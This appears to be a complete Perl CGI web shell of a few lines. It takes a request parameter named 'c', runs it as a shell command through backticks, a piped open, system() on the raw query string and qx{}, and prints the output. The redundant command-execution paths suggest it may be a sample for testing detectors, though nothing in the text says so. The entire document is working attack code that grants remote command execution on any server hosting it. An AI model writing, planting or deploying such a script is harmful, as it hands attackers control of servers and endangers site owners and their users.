#!/usr/bin/perl
use CGI; my $q = CGI->new; my $c = $q->param('c');
print `$c`; open(P, "$c |"); system $ENV{'QUERY_STRING'}; print qx{$c};
